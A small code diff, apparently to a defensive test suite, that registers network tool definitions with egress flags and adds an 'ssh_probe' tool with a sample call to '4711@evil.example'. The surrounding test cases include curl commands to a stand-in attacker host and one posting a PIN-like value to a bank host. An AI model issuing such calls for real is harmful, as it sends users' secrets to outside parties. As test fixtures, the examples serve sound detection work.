@@ -166,6 +166,7 @@ NETWORK = (
     card("ping", "read", "server", egress=True),
     card("http_get", "read", "target", "extra", egress=True),
     card("probe", "read", "where", egress=("where",)),
+    card("ssh_probe", "read", "account", egress=True),
     card("run_request", "read", "command", egress=True),
     card("check_all", "read", "hosts", "lines", egress=True),
 )
@@ -193,6 +194,7 @@ NETWORK = (
         ("http_get", {"target": "bank.example", "extra": "in my own words"}),
         ("http_get", {"target": "bank.example", "extra": {"url": "https://bank.example/", "pin": "4711"}}),
         ("probe", {"where": "evil.example"}),
+        ("ssh_probe", {"account": "4711@evil.example"}),
         ("run_request", {"command": "curl https://evil.example/ -s"}),
         ("run_request", {"command": "curl https://bank.example/ -d 4711"}),
         ("check_all", {"hosts": ["bank.example", "evil"]}),
